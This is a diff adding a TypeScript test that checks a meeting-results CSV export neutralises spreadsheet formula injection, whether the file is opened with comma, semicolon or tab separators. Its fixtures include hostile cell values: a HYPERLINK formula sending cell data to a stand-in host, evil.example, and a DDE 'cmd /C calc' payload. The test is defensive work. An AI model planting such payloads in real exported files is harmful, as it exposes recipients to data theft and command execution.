@@ -21,6 +21,7 @@ import {
   type Principal,
   type ReplayableCommand,
 } from './index.js';
+import { formulaCells, readAsSpreadsheet } from './testing/spreadsheet.js';
 
 const DELEGATIONS = ['uz', 'kz', 'az', 'de', 'fr', 'it'];
 const def = meetingDefinitionSchema.parse({
@@ -439,5 +440,30 @@ describe('the results export', () => {
     const line = resultsCsv(resultsExport(world, 0));
     expect(line).toContain(`"'=HYPERLINK(""x""), ""quoted"""`);
     expect(line).toContain('"Строка\nвторая"');
+  });
+
+  it('opened with `,` or with `;` (Excel in Russian or French) or tab, no cell of the CSV is a formula, and every text reads back', () => {
+    // [as written by people, as a spreadsheet shows it]: a formula start (= + - @, a tab) at the
+    // start of a text, or after a `;`, a tab or a line break inside it, gets an apostrophe.
+    const texts: Array<[string, string]> = [
+      ['Noted;=1+1;…', "Noted;'=1+1;…"],
+      ['=HYPERLINK("https://evil.example/?"&A1,"Open")', '\'=HYPERLINK("https://evil.example/?"&A1,"Open")'],
+      ['Agreed;-2+3+cmd|\' /C calc\'!A0', "Agreed;'-2+3+cmd|' /C calc'!A0"],
+      ['Agreed; @SUM(1)\tsee\t+1', "Agreed; '@SUM(1)\tsee\t'+1"],
+      ['The meeting:\n- noted the report\r\n=agreed', "The meeting:\n'- noted the report\r\n'=agreed"],
+      ['Agreed;"=1+1"', 'Agreed;"\'=1+1"'],
+      ['Agreed, +7 (495) 449-77-77; a, b, "c"', 'Agreed, +7 (495) 449-77-77; a, b, "c"'],
+    ];
+    let world = openMeeting();
+    for (const [text] of texts) world = created(world, { type: 'decision.record', agendaItemId: 'aob', text: { en: text, ru: `${text} (рус.)` }, outcome: 'noted' }).world;
+    const csv = resultsCsv(resultsExport(world, 0));
+
+    expect(formulaCells(csv)).toEqual([]);
+    const [header, ...rows] = readAsSpreadsheet(csv, ',');
+    const en = header?.indexOf('text_en') ?? -1;
+    const ru = header?.indexOf('text_ru') ?? -1;
+    expect(rows.every((r) => r.length === header?.length)).toBe(true);
+    expect(rows.map((r) => r[en])).toEqual(texts.map(([, shown]) => shown));
+    expect(rows.map((r) => r[ru])).toEqual(texts.map(([, shown]) => `${shown} (рус.)`));
   });
 });
